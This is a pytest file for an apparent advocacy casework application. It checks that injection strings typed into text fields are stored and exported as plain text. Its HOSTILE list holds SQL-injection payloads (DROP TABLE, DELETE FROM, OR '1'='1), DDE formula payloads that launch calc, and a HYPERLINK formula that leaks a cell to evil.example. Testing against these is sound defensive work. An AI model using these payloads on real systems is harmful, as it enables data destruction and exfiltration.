"""SQL and formula characters in every text field a person types: stored and shown as
written, never run by the database, and never run as formulas by a spreadsheet that
opens an export."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from sqlalchemy import inspect

from advocacy_desk.app import Services
from advocacy_desk.cli import main as cli_main
from advocacy_desk.domain.casework import ActivityDetails
from advocacy_desk.domain.people import PersonDetails
from advocacy_desk.domain.referrals import ReferralDetails
from advocacy_desk.domain.spreadsheet import FORMULA_STARTS
from tests.conftest import TODAY
from tests.data_protection_data import advocate

HOSTILE = [
    "'; DROP TABLE person; --",
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'Robert"); DELETE FROM audit_event; --',
    "x' OR '1'='1",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_text_is_kept_as_written_everywhere(
    services: Services, database: str, hostile: str, capsys: pytest.CaptureFixture[str]
) -> None:
    person = services.people.create(
        PersonDetails(hostile[:100], hostile[:100], None, communication_needs=hostile,
                      first_language=hostile[:100], postcode="CM2 0AA",
                      local_authority=hostile[:100]),
        allow_duplicate=True,
    )  # fmt: skip
    referral = services.referrals.create(
        person.id,
        ReferralDetails(TODAY - timedelta(days=5), "self", "care_act", notes=hostile),
    )
    ref = services.waiting_list.allocate(referral.id, advocate(services), on=TODAY)
    case_id = next(r.case_id for r in services.casework.caseload() if r.case_ref == ref)
    services.casework.log_activity(case_id, ActivityDetails(TODAY, "visit", 30, 0, hostile))
    services.casework.add_issue(case_id, "other", hostile)
    services.casework.set_next_action(case_id, hostile[:200], None)

    # Stored and read back exactly; every table is still there.
    details = services.people.get(person.id).details
    assert (details.given_name, details.communication_needs) == (hostile[:100], hostile)
    assert services.referrals.get(referral.id).details.notes == hostile
    assert services.casework.activities(case_id)[0].note == hostile
    assert services.casework.case(case_id).issues[0].description == hostile
    tables = set(inspect(services.engine).get_table_names())
    assert {"person", "audit_event", "activity", "staff_user"} <= tables
    assert services.audit.verify()[1] is None
    # The search takes it as words to find, not as a query.
    assert services.people.search_ids(hostile) == [person.id]

    # The audit trail as CSV: a spreadsheet shows every cell as text.
    capsys.readouterr()
    assert cli_main(["--db", str(database), "audit", "--format", "csv"]) == 0
    cells = [cell for row in csv.reader(io.StringIO(capsys.readouterr().out)) for cell in row]
    assert cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    # ... and as JSON, exactly as written.
    assert cli_main(["--db", str(database), "audit", "--format", "json"]) == 0
    events = json.loads(capsys.readouterr().out)
    assert any(hostile in json.loads(e["details"]).get("next_action", ["", ""])[1:]
               for e in events)  # fmt: skip
